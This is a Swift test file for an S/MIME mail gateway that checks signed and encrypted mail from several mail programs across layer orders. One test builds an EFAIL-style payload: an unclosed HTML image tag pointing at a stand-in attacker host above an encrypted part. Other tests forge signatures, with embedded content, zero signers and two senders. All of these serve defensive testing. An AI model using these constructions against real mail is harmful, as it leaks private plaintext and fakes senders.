import MIME
import TestSupport
import Testing

@testable import Gateway

@Suite("Mail of other programs: Thunderbird, KMail, Apple Mail, Outlook and bare forms")
struct MailProgramTests {
    enum Shape: String, CaseIterable, Sendable {
        case detached, opaque, enveloped, signedThenEncrypted, opaqueThenEncrypted, encryptedThenSigned, tripleWrapped, tripleOpaque

        /// The layers in letters, outermost first.
        var layers: String {
            switch self {
            case .detached, .opaque: "s"
            case .enveloped: "e"
            case .signedThenEncrypted, .opaqueThenEncrypted: "es"
            case .encryptedThenSigned: "se"
            case .tripleWrapped, .tripleOpaque: "ses"
            }
        }
    }

    private func content(_ shape: Shape, _ program: MailProgram, _ fixture: InwardFixture) throws -> String {
        let (letter, bob, alice) = (program.letter, fixture.bob, fixture.alice)
        // The boundary of an outer signature must not be that of the inner one.
        let outer = { (entity: String) in
            try program.signed(entity.replacing(program.boundary, with: "\(program.boundary).in"), by: bob)
        }
        return switch shape {
        case .detached: try program.signed(letter, by: bob)
        case .opaque: try program.opaque(letter, by: bob)
        case .enveloped: try program.enveloped(letter, to: alice)
        case .signedThenEncrypted: try program.enveloped(program.signed(letter, by: bob), to: alice)
        case .opaqueThenEncrypted: try program.enveloped(program.opaque(letter, by: bob), to: alice)
        case .encryptedThenSigned: try outer(program.enveloped(letter, to: alice))
        case .tripleWrapped: try outer(program.enveloped(program.signed(letter, by: bob), to: alice))
        case .tripleOpaque: try program.opaque(program.enveloped(program.opaque(letter, by: bob), to: alice), by: bob)
        }
    }

    @Test("A-11 and every other order of layers: opened, each layer judged right", arguments: MailProgram.all, Shape.allCases)
    func judged(_ program: MailProgram, _ shape: Shape) async throws {
        let fixture = try await InwardFixture()
        let mail = program.mail(try content(shape, program, fixture))
        let (copies, trace) = try await fixture.arrival(mail)
        let copy = try #require(copies.first)
        for (number, layer) in shape.layers.enumerated() {
            if layer == "s" {
                #expect(copy.info("Signer-Email-0-\(number)") == InwardFixture.bob)
                #expect(copy.info("Signer-Verified-0-\(number)") == "True" && copy.info("Signer-Trusted-0-\(number)") == "True")
            } else {
                #expect(copy.info("Encryption-Algorithm-\(number)") == program.cipher.rawValue)
                #expect(copy.info("Encryption-Authenticated-\(number)") == (program.cipher == .aes256GCM ? "True" : "False"))
                #expect(copy.info("Encryption-Recipient-0-\(number)") != nil)
            }
        }
        #expect(copy.info("Signer-Verified-0-\(shape.layers.count)") == nil && copy.info("Signer-Mismatch") == nil)
        #expect(copy.info("SMIME-Signed") == (shape.layers.contains("s") ? "True" : nil))
        #expect(copy.info("SMIME-Encrypted") == (shape.layers.contains("e") ? "True" : nil))
        #expect(copy.positiveMarks.count == (shape.layers.contains("s") ? 3 : 0), "\(copy.positiveMarks)")
        let tags = (shape.layers.contains("e") ? " [decrypted]" : "") + (shape.layers.contains("s") ? " [signed]" : "")
        #expect(copy.header("Subject") == "Offer\(tags)")
        #expect(trace.openings?.map(\.state) == [shape.layers.contains("s") ? .valid : nil])
        // What was encrypted is readable; what nobody had to open is as it came.
        if shape.layers.contains("e") {
            let opened = shape == .opaqueThenEncrypted || shape == .tripleOpaque
            #expect(opened || copy.showsMark)
        } else {
            #expect(copy.keeps(mail))
        }
    }

    @Test("the same with one word changed: never valid", arguments: MailProgram.all)
    func changed(_ program: MailProgram) async throws {
        let fixture = try await InwardFixture()
        let entity = try program.signed(program.letter, by: fixture.bob).replacing(InwardFixture.mark, with: "MARK-51c1-secret")
        for mail in [program.mail(entity), program.mail(try program.enveloped(entity, to: fixture.alice))] {
            let copy = try await fixture.delivered(mail)
            #expect(copy.positiveMarks.isEmpty && copy.header("Authentication-Results")?.contains("smime=fail") == true)
        }
    }

    @Test("A-33: an encrypted part of each program below HTML with an open tag is not decrypted", arguments: MailProgram.all)
    func a33(_ program: MailProgram) async throws {
        let fixture = try await InwardFixture()
        let part = try program.enveloped(program.letter, to: fixture.alice)
        let mail = program.mail(
            MailShapes.multipart(
                "mixed", ["Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n", part], boundary: "outer"))
        let copy = try await fixture.delivered(mail)
        #expect(copy.keeps(mail) && !copy.showsMark && copy.info("Encrypted-Part-Not-Root") == "True")
    }

    @Test(
        "A-34: embedded content, zero signers and two From mailboxes in the form of each program: never valid", arguments: MailProgram.all)
    func a34(_ program: MailProgram) async throws {
        let fixture = try await InwardFixture()
        let good = try program.signed(program.letter, by: fixture.bob)
        let signature = MailShapes.base64(try fixture.signature(over: "Content-Type: text/plain\r\n\r\nother\r\n", isDetached: false))
        let start = try #require(good.range(of: "\(program.signatureHeader)\r\n\r\n")?.upperBound)
        let embedded = good[..<start] + signature + "\r\n--\(program.boundary)--\r\n"
        let empty = good[..<start] + MailShapes.base64(MailShapes.unsigned()) + "\r\n--\(program.boundary)--\r\n"
        let twoFrom = InwardFixture.mail(good, from: "\(InwardFixture.bob), ceo@zegel.example", extra: program.header)
        for mail in [program.mail(String(embedded)), program.mail(String(empty)), twoFrom] {
            let copy = try await fixture.delivered(mail)
            #expect(copy.positiveMarks.isEmpty, "\(copy.positiveMarks)")
        }
        #expect(try await fixture.delivered(program.mail(good)).positiveMarks.count == 3, "control")
    }
}
